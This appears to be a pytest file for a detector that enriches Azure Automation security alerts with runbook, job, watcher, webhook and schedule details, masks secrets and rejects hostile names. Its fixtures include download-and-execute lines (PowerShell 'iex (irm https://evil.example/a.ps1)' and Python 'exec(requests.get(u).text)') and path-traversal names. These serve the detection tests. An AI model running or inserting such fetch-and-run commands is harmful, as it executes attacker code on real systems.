"""Each enrichment answers its question from the Automation API, or says why it cannot."""

import codecs
import hashlib
import json

import msgspec
import pytest

from detectors.model import Evidence
from detectors.triage.enrichment import ENRICHMENTS
from detectors.triage.enrichment.case import Case
from detectors.triage.enrichment.gather import gather
from tests.triage.automation_server import (
    ACCOUNT,
    ARM_NOT_FOUND,
    OLD_NOT_FOUND,
    AutomationServer,
    Reply,
    as_json,
    as_text,
)
from tests.triage.conftest import CaseFor


async def collect(case: Case, name: str) -> Evidence:
    (evidence,) = await gather(case, [name], piece_timeout=30, deadline=30)
    # Whatever the API held, the store must be able to keep it.
    assert msgspec.json.decode(msgspec.json.encode(evidence), type=Evidence) == evidence
    return evidence


def facts(evidence: Evidence) -> dict[str, str]:
    return {fact.label: fact.value for fact in evidence.facts}


async def test_the_runbook_is_described(server: AutomationServer, case_for: CaseFor) -> None:
    server.put_runbook(
        state="Edit",
        runtimeEnvironment="PowerShell-7.2",
        creationTime="2026-03-01T10:00:00.1234567+00:00",
        jobCount=7,
        draft={"inEdit": True},
        parameters={"VmName": {"type": "string"}, "Password": {"type": "string", "defaultValue": "hunter2"}},
    )
    evidence = await collect(case_for("/runbooks/nightly"), "runbook")
    assert evidence.missing is None
    assert facts(evidence) == {
        "Runbook": "nightly",
        "Type": "PowerShell",
        "State": "Edit",
        "Runtime environment": "PowerShell-7.2",
        "Created": "2026-03-01 10:00:00 UTC",
        "Last modified by": "eve@contoso.example",
        "Jobs so far": "7",
        "Draft in edit": "yes",
        "Parameters": "VmName, Password",
    }
    assert evidence.data["properties"]["runbookType"] == "PowerShell"
    assert "hunter2" not in json.dumps(evidence.data)


async def test_the_published_text_is_shown_with_its_findings(server: AutomationServer, case_for: CaseFor) -> None:
    script = "$password = 'hunter2'\niex (irm https://evil.example/a.ps1)\n"
    server.put_runbook()
    server.answers["/runbooks/nightly/content"] = as_text(script)
    evidence = await collect(case_for("/runbooks/nightly"), "published_content")
    (code,) = evidence.code
    assert code.title == "Published content of nightly"
    assert code.language == "PowerShell"
    assert code.text == "$password = '«masked»'\niex (irm https://evil.example/a.ps1)\n"
    assert code.sha256 == hashlib.sha256(script.encode()).hexdigest()
    assert code.size == len(script)
    assert not code.truncated
    assert [line.number for line in code.focus] == [2]
    assert [(f["indicator"], f["rare"]) for f in evidence.data["findings"]] == [("download-and-execute", True)]


@pytest.mark.parametrize("content_type", ["application/octet-stream", "application/json", "text/plain", None])
async def test_the_text_does_not_depend_on_its_content_type(
    server: AutomationServer, case_for: CaseFor, content_type: str | None
) -> None:
    server.put_runbook()
    server.answers["/runbooks/nightly/content"] = as_text("Get-Date", content_type)
    evidence = await collect(case_for("/runbooks/nightly"), "published_content")
    assert evidence.code[0].text == "Get-Date"


@pytest.mark.parametrize(
    ("body", "note"),
    [
        (codecs.BOM_UTF16_LE + "Get-Date é".encode("utf-16-le"), "Decoded as utf-16-le."),
        ("Get-Date é".encode("latin-1"), "Decoded as cp1252."),
    ],
)
async def test_no_byte_of_a_text_is_lost_to_its_encoding(
    server: AutomationServer, case_for: CaseFor, body: bytes, note: str
) -> None:
    server.put_runbook()
    server.answers["/runbooks/nightly/content"] = as_text(body)
    evidence = await collect(case_for("/runbooks/nightly"), "published_content")
    assert evidence.code[0].text == "Get-Date é"
    assert facts(evidence)["Note"] == note


async def test_a_huge_body_is_read_up_to_the_cap_only(server: AutomationServer, case_for: CaseFor) -> None:
    server.put_runbook()
    body = b"# filler\n" * 350_000
    server.answers["/runbooks/nightly/content"] = as_text(body)
    evidence = await collect(case_for("/runbooks/nightly"), "published_content")
    (code,) = evidence.code
    assert code.truncated
    assert code.size == len(code.text) == 1_000_000
    assert code.sha256 == hashlib.sha256(body[:1_000_000]).hexdigest()


async def test_a_runbook_in_state_new_has_a_draft_and_no_published_text(
    server: AutomationServer, case_for: CaseFor
) -> None:
    server.put_runbook(state="New", kind="Python3")
    server.answers["/runbooks/nightly/draft/content"] = as_text("import os")
    published, draft = await gather(
        case_for("/runbooks/nightly"), ["published_content", "draft_content"], piece_timeout=30, deadline=30
    )
    assert published.missing == "Runbook 'nightly' is not published yet (state New): see its draft."
    assert server.asked("/runbooks/nightly/content") == 0
    assert draft.code[0].text == "import os"
    assert draft.code[0].language == "Python"


async def test_a_published_runbook_has_no_draft(server: AutomationServer, case_for: CaseFor) -> None:
    server.put_runbook(state="Published")
    evidence = await collect(case_for("/runbooks/nightly"), "draft_content")
    assert evidence.missing == "Runbook 'nightly' has no draft (state Published)."
    assert server.asked("/runbooks/nightly/draft/content") == 0


async def test_a_runbook_in_edit_says_that_the_draft_may_differ(server: AutomationServer, case_for: CaseFor) -> None:
    server.put_runbook(state="Edit")
    server.answers["/runbooks/nightly/content"] = as_text("Get-Date")
    evidence = await collect(case_for("/runbooks/nightly"), "published_content")
    assert "draft is in edit" in facts(evidence)["Note"]


async def test_the_job_is_described_and_its_secrets_are_not(server: AutomationServer, case_for: CaseFor) -> None:
    server.put_job(
        startedBy="eve@contoso.example",
        runOn="",
        startTime="2026-03-02T03:00:00+00:00",
        exception="boom",
        parameters={"VmName": "dc01", "SqlPassword": "hunter2"},
    )
    evidence = await collect(case_for("/jobs/j1"), "job")
    described = facts(evidence)
    assert described["Runbook"] == "nightly"
    assert described["Started by"] == "eve@contoso.example"
    assert described["Ran on"] == "Azure sandbox (cloud)"
    assert described["Started"] == "2026-03-02 03:00:00 UTC"
    assert described["Exception"] == "boom"
    assert described["Parameters"] == "VmName=dc01, SqlPassword=«masked»"
    assert "hunter2" not in json.dumps(evidence.data)


async def test_a_job_on_a_hybrid_worker_names_the_group(server: AutomationServer, case_for: CaseFor) -> None:
    server.put_job(runOn="onprem-servers")
    evidence = await collect(case_for("/jobs/j1"), "job")
    assert facts(evidence)["Ran on"] == "hybrid worker group onprem-servers"


async def test_a_job_leads_to_the_text_of_its_runbook(server: AutomationServer, case_for: CaseFor) -> None:
    server.put_job(runbook="nightly")
    server.put_runbook()
    server.answers["/runbooks/nightly/content"] = as_text("Get-Date")
    evidence = await collect(case_for("/jobs/j1"), "published_content")
    assert evidence.code[0].text == "Get-Date"


async def test_the_executed_text_survives_the_deletion_of_its_runbook(
    server: AutomationServer, case_for: CaseFor
) -> None:
    server.put_job(runbook="gone")
    server.answers["/jobs/j1/runbookContent"] = as_text("import os\nexec(requests.get(u).text)\n")
    evidence = await collect(case_for("/jobs/j1"), "executed_content")
    assert evidence.missing is None
    assert evidence.code[0].language == "Python"
    assert evidence.code[0].focus[0].number == 2
    assert "Language guessed from the text." in facts(evidence)["Note"]
    assert "runbook 'gone' does not exist any more (404)" in facts(evidence)["Note"]


async def test_the_output_is_cut_after_its_first_lines(server: AutomationServer, case_for: CaseFor) -> None:
    server.put_job()
    server.answers["/jobs/j1/output"] = as_text("".join(f"line {n}\n" for n in range(50)), "text/plain")
    evidence = await collect(case_for("/jobs/j1"), "job_output")
    assert evidence.code[0].text.split("\n") == [f"line {n}" for n in range(20)]
    assert facts(evidence)["Note"] == "The first 20 of 50 lines are shown."


async def test_a_job_without_output_says_so(server: AutomationServer, case_for: CaseFor) -> None:
    server.put_job()
    server.answers["/jobs/j1/output"] = as_text("", "text/plain")
    evidence = await collect(case_for("/jobs/j1"), "job_output")
    assert facts(evidence) == {"Output": "The job has written no output so far."}


@pytest.mark.parametrize("name", ["job", "executed_content", "job_output"])
async def test_what_belongs_to_a_job_is_missing_for_a_runbook(case_for: CaseFor, name: str) -> None:
    evidence = await collect(case_for("/runbooks/nightly"), name)
    assert evidence.missing == "The event is about a runbook, not about a job."


def watcher(name: str, script: str, **more: object) -> dict[str, object]:
    properties = {"executionFrequencyInSeconds": 60, "scriptName": script, "scriptRunOn": "onprem", **more}
    return {"id": f"{ACCOUNT}/watchers/{name}", "name": name, "properties": properties}


async def test_the_watchers_of_a_runbook_are_found(server: AutomationServer, case_for: CaseFor) -> None:
    mine = watcher("w1", "NIGHTLY", status="Running", scriptParameters={"ApiKey": "hunter2"}, lastModifiedBy="eve")
    server.put("/watchers", {"value": [mine, watcher("w2", "other")]})
    evidence = await collect(case_for("/runbooks/nightly"), "watchers")
    described = facts(evidence)
    assert described["Watcher"] == "w1"
    assert described["Script"] == "NIGHTLY"
    assert described["Runs"] == "every 60 seconds"
    assert described["Runs on"] == "hybrid worker group onprem"
    assert described["Status"] == "Running"
    assert described["Parameters"] == "ApiKey=«masked»"
    assert described["Last modified by"] == "eve"
    assert described["Watcher actions"].startswith("Not available: Azure publishes no way to read them")
    assert "Script content" not in described
    assert "w2" not in str(evidence)
    assert evidence.data["inAccount"] == 2
    assert server.asked("/watchers/w1/watcherActions") == 1


async def test_watcher_actions_are_shown_when_the_service_answers(server: AutomationServer, case_for: CaseFor) -> None:
    server.put("/watchers/w1", watcher("w1", "nightly"))
    server.put("/watchers", {"value": [watcher("w1", "nightly"), watcher("w2", "nightly")]})
    server.put("/watchers/w1/watcherActions", {"value": [{"name": "a1", "properties": {"token": "hunter2"}}]})
    evidence = await collect(case_for("/watchers/w1"), "watchers")
    assert [fact.value for fact in evidence.facts if fact.label == "Watcher"] == ["w1", "w2"]
    assert facts(evidence)["Watcher actions"] == "a1"
    assert evidence.data["watcherActions"] == [{"name": "a1", "properties": {"token": "«masked»"}}]


async def test_watcher_actions_that_never_answer_do_not_take_the_watchers_away(
    server: AutomationServer, case_for: CaseFor
) -> None:
    server.put("/watchers", {"value": [watcher("w1", "nightly")]})
    server.answers["/watchers/w1/watcherActions"] = Reply(hold=True)
    evidence = await collect(case_for("/runbooks/nightly", optional_timeout=0.05), "watchers")
    assert facts(evidence)["Watcher"] == "w1"
    assert facts(evidence)["Watcher actions"] == "Not available: no answer within 0.05 seconds."


async def test_every_watcher_of_an_account_is_listed_when_no_runbook_is_known(
    server: AutomationServer, case_for: CaseFor
) -> None:
    server.put("/watchers", {"value": [watcher("w1", "one"), watcher("w2", "two")]})
    evidence = await collect(case_for(""), "watchers")
    assert [fact.value for fact in evidence.facts if fact.label == "Watcher"] == ["w1", "w2"]
    assert facts(evidence)["Script content"] == ("'two' is not the runbook of this event; its text was not collected.")


async def test_a_watcher_without_a_name_is_known_by_its_id(server: AutomationServer, case_for: CaseFor) -> None:
    server.put("/watchers", {"value": [watcher("w1", "nightly") | {"name": None}]})
    server.put("/watchers/w1/watcherActions", {"value": []})
    evidence = await collect(case_for("/runbooks/nightly"), "watchers")
    assert facts(evidence)["Watcher"] == "w1"
    assert facts(evidence)["Watcher actions"] == "none"


async def test_a_hostile_watcher_name_never_gets_into_a_path(server: AutomationServer, case_for: CaseFor) -> None:
    server.put("/watchers", {"value": [watcher("..", "nightly")]})
    evidence = await collect(case_for("/runbooks/nightly"), "watchers")
    assert facts(evidence)["Watcher actions"].startswith("Not available: the watcher's name cannot be part")
    assert server.requests == ["/watchers"]


async def test_no_watcher_is_an_answer(server: AutomationServer, case_for: CaseFor) -> None:
    server.put("/watchers", {"value": [watcher("w2", "other")]})
    evidence = await collect(case_for("/runbooks/nightly"), "watchers")
    assert evidence.missing is None
    assert facts(evidence) == {"Watchers": "None runs runbook 'nightly' (1 in the account)."}


async def test_the_webhooks_of_a_runbook_are_found_with_their_expiry(
    server: AutomationServer, case_for: CaseFor
) -> None:
    properties = {
        "isEnabled": True,
        "runbook": {"name": "nightly"},
        "expiryTime": "2027-03-02T03:00:00+00:00",
        "lastInvokedTime": None,
        "uri": "https://1.webhook.we.azure-automation.net/webhooks?token=hunter2",
    }
    other = {"name": "h2", "properties": {"runbook": {"name": "other"}}}
    server.put("/webhooks", {"value": [{"name": "h1", "properties": properties}, other]})
    evidence = await collect(case_for("/runbooks/nightly"), "webhooks")
    assert facts(evidence) == {
        "Webhook": "h1",
        "Starts runbook": "nightly",
        "Enabled": "yes",
        "Expires": "2027-03-02 03:00:00 UTC (in 365 days)",
        "Last invoked": "never",
        "Runs on": "Azure sandbox (cloud)",
    }
    assert "hunter2" not in json.dumps(evidence.data)


async def test_a_webhook_leads_to_its_runbook_and_comes_first(server: AutomationServer, case_for: CaseFor) -> None:
    mine = {"name": "h2", "properties": {"runbook": {"name": "nightly"}, "expiryTime": "2026-03-02T02:30:00+00:00"}}
    server.put("/webhooks/h2", mine)
    server.put("/webhooks", {"value": [{"name": "h1", "properties": {"runbook": {"name": "nightly"}}}, mine]})
    case = case_for("/webhooks/h2")
    evidence = await collect(case, "webhooks")
    assert [fact.value for fact in evidence.facts if fact.label == "Webhook"] == ["h2", "h1"]
    assert facts(evidence)["Expires"] == "2026-03-02 02:30:00 UTC (30 minutes ago)"
    assert await case.runbook_name() == "nightly"


def link(schedule: str, runbook: str) -> dict[str, object]:
    return {"properties": {"jobScheduleId": "1", "schedule": {"name": schedule}, "runbook": {"name": runbook}}}


async def test_the_schedules_of_a_runbook_are_found(server: AutomationServer, case_for: CaseFor) -> None:
    server.put("/jobSchedules", {"value": [link("every hour", "Nightly"), link("x", "other"), link("gone", "nightly")]})
    properties = {"frequency": "Hour", "interval": 1, "isEnabled": True, "nextRun": "2026-03-02T04:00:00+00:00"}
    properties["expiryTime"] = "9999-12-31T23:59:59.9999999+00:00"
    server.put("/schedules/every%20hour", {"name": "every hour", "properties": properties})
    evidence = await collect(case_for("/runbooks/nightly"), "schedules")
    shown = [(fact.label, fact.value) for fact in evidence.facts]
    assert shown[:5] == [
        ("Schedule", "every hour"),
        ("Frequency", "every 1 Hour"),
        ("Enabled", "yes"),
        ("Next run", "2026-03-02 04:00:00 UTC (in 1 hour)"),
        ("Expires", "never"),
    ]
    assert ("Schedule", "gone") in shown
    assert any("schedule 'gone' does not exist any more" in value for _, value in shown)
    assert server.asked("/schedules/x") == 0


async def test_a_schedule_leads_to_every_runbook_that_it_starts(server: AutomationServer, case_for: CaseFor) -> None:
    server.put("/jobSchedules", {"value": [link("Daily", "zeta"), link("daily", "alpha"), link("x", "other")]})
    server.put("/schedules/Daily", {"name": "Daily", "properties": {"frequency": "Day", "interval": 1}})
    case = case_for("/schedules/daily")
    evidence = await collect(case, "schedules")
    assert [fact.value for fact in evidence.facts if fact.label == "Starts runbook"] == ["zeta", "alpha"]
    assert await case.runbook_name() == "alpha"


async def test_a_schedule_that_starts_nothing_is_still_described(server: AutomationServer, case_for: CaseFor) -> None:
    server.put("/jobSchedules", {"value": []})
    server.put("/schedules/daily", {"name": "daily", "properties": {"frequency": "Day", "interval": 1}})
    evidence = await collect(case_for("/schedules/daily"), "schedules")
    assert facts(evidence)["Frequency"] == "every 1 Day"
    assert facts(evidence)["Starts runbook"] == "None: the schedule is linked to no runbook."


async def test_a_link_of_a_schedule_leads_to_its_runbook(server: AutomationServer, case_for: CaseFor) -> None:
    server.put("/jobSchedules/1", link("daily", "nightly"))
    assert await case_for("/jobSchedules/1").runbook_name() == "nightly"


# --- why evidence is missing -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "permission"),
    [
        (
            {
                "error": {
                    "code": "AuthorizationFailed",
                    "message": "The client 'x' does not have authorization to perform action "
                    "'Microsoft.Automation/automationAccounts/runbooks/content/read' over scope '/y'.",
                }
            },
            "Microsoft.Automation/automationAccounts/runbooks/content/read",
        ),
        ({"code": "Forbidden", "message": "no"}, "Microsoft.Automation/automationAccounts/runbooks/read"),
        ("<html>no</html>", "Microsoft.Automation/automationAccounts/runbooks/read"),
    ],
)
async def test_a_403_names_the_permission_that_is_lacking(
    server: AutomationServer, case_for: CaseFor, body: object, permission: str
) -> None:
    server.answers["/runbooks/nightly"] = as_json(body, 403)
    evidence = await collect(case_for("/runbooks/nightly"), "runbook")
    assert evidence.missing is not None
    assert "may not read the runbook 'nightly' (403)" in evidence.missing
    assert f"permission {permission} is lacking" in evidence.missing
    assert "Give the detector's identity a role" in evidence.missing


async def test_what_a_job_executed_needs_an_action_that_reader_lacks(
    server: AutomationServer, case_for: CaseFor
) -> None:
    server.put_job()
    server.answers["/jobs/j1/runbookContent"] = as_json({"code": "Forbidden", "message": "no"}, 403)
    evidence = await collect(case_for("/jobs/j1"), "executed_content")
    assert evidence.missing is not None
    assert "the executed content of job 'j1' (403)" in evidence.missing
    assert "Microsoft.Automation/automationAccounts/jobs/runbookContent/action" in evidence.missing


@pytest.mark.parametrize(("body", "code"), [(ARM_NOT_FOUND, "ResourceNotFound"), (OLD_NOT_FOUND, "NotFound")])
async def test_a_deleted_runbook_is_said_to_be_deleted(
    server: AutomationServer, case_for: CaseFor, body: object, code: str
) -> None:
    server.answers["/runbooks/nightly"] = as_json(body, 404)
    evidence = await collect(case_for("/runbooks/nightly"), "published_content")
    assert evidence.missing is not None
    assert evidence.missing.startswith("The runbook 'nightly' does not exist any more (404): it was deleted or renamed")
    assert f"Azure says: {code}: " in evidence.missing


@pytest.mark.parametrize("body", [ARM_NOT_FOUND, OLD_NOT_FOUND])
async def test_a_text_that_is_not_there_is_told_from_a_runbook_that_is_not(
    server: AutomationServer, case_for: CaseFor, body: object
) -> None:
    server.put_runbook(state="Published")
    server.answers["/runbooks/nightly/content"] = as_json(body, 404)
    evidence = await collect(case_for("/runbooks/nightly"), "published_content")
    assert evidence.missing is not None
    assert evidence.missing.startswith("There is no published content of runbook 'nightly' (404)")


async def test_an_old_job_is_said_to_be_past_retention(case_for: CaseFor) -> None:
    evidence = await collect(case_for("/jobs/j1"), "job")
    assert evidence.missing is not None
    assert "job 'j1' does not exist (404): Azure keeps job data for 30 days" in evidence.missing


async def test_a_resource_group_that_is_gone_is_named_as_the_cause(server: AutomationServer, case_for: CaseFor) -> None:
    server.answers["/runbooks/nightly"] = as_json({"error": {"code": "ResourceGroupNotFound", "message": "gone"}}, 404)
    evidence = await collect(case_for("/runbooks/nightly"), "runbook")
    assert evidence.missing is not None
    assert "its resource group or subscription is gone (404)" in evidence.missing


async def test_a_proxy_error_page_is_reported_as_its_status(server: AutomationServer, case_for: CaseFor) -> None:
    server.answers["/runbooks/nightly"] = Reply(b"<html><h1>Bad gateway</h1></html>", 502, "text/html")
    evidence = await collect(case_for("/runbooks/nightly"), "runbook")
    assert evidence.missing == (
        "Azure answered 502 when asked for the runbook 'nightly'. Read it in the portal, or later."
    )


async def test_a_throttle_is_reported_with_the_time_to_wait(server: AutomationServer, case_for: CaseFor) -> None:
    body = {"error": {"code": "TooManyRequests", "message": "slow down"}}
    server.answers["/runbooks/nightly"] = as_json(body, 429, Retry_After="3600")
    evidence = await collect(case_for("/runbooks/nightly"), "runbook")
    assert evidence.missing is not None
    assert "throttled the detector while it read the runbook 'nightly' (429)" in evidence.missing
    assert "asks to wait 3600 seconds" in evidence.missing
    assert server.asked("/runbooks/nightly") == 1


async def test_an_answer_that_is_no_json_is_unexpected_and_logged(
    server: AutomationServer, case_for: CaseFor, caplog: pytest.LogCaptureFixture
) -> None:
    server.answers["/runbooks/nightly"] = Reply(b"<html>", 200, "application/json")
    evidence = await collect(case_for("/runbooks/nightly"), "runbook")
    assert evidence.missing is not None
    assert evidence.missing.startswith("Unexpected ")
    assert [record.exc_info is not None for record in caplog.records if record.levelname == "ERROR"] == [True]


async def test_an_account_is_no_runbook(case_for: CaseFor) -> None:
    evidence = await collect(case_for(""), "published_content")
    assert evidence.missing == "The event is about the automation account, which leads to no single runbook."
    evidence = await collect(case_for("/variables/v"), "runbook")
    assert evidence.missing == "The event is about the variable 'v', which leads to no single runbook."


async def test_a_job_without_a_runbook_says_so(server: AutomationServer, case_for: CaseFor) -> None:
    server.put_job(runbook=None)
    evidence = await collect(case_for("/jobs/j1"), "runbook")
    assert evidence.missing == "The job 'j1' names no runbook, so there is none to look at."


# --- hostile answers -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["..", ".", "a/../../b", "a\\b", "a\r\nb", "\ud800", "x" * 600])
async def test_a_hostile_runbook_name_never_gets_into_a_path(
    server: AutomationServer, case_for: CaseFor, name: str
) -> None:
    server.put_job(runbook=name)
    evidence = await collect(case_for("/jobs/j1"), "published_content")
    assert evidence.missing is not None
    assert "which cannot be part of a request" in evidence.missing
    assert server.requests == ["/jobs/j1"]


async def test_a_strange_runbook_name_is_quoted(server: AutomationServer, case_for: CaseFor) -> None:
    server.put_job(runbook="a b?x=1#y%2F..")
    await collect(case_for("/jobs/j1"), "published_content")
    assert server.requests == ["/jobs/j1", "/runbooks/a%20b%3Fx=1%23y%252F.."]


async def test_hostile_values_stay_storable_and_bounded(server: AutomationServer, case_for: CaseFor) -> None:
    deep: object = "x"
    for _ in range(50):
        deep = {"a": [deep]}
    server.put_runbook(description="\ud800\x1b[2J" + "x" * 100_000, tags=deep, number=2**70)
    evidence = await collect(case_for("/runbooks/nightly"), "runbook")
    assert len(facts(evidence)["Description"]) <= 1_000
    assert "\x1b" not in str(evidence)
    assert len(msgspec.json.encode(evidence)) < 20_000


def test_every_enrichment_registers_under_its_own_name() -> None:
    assert list(ENRICHMENTS) == [
        "runbook",
        "published_content",
        "draft_content",
        "job",
        "executed_content",
        "job_output",
        "watchers",
        "webhooks",
        "schedules",
    ]
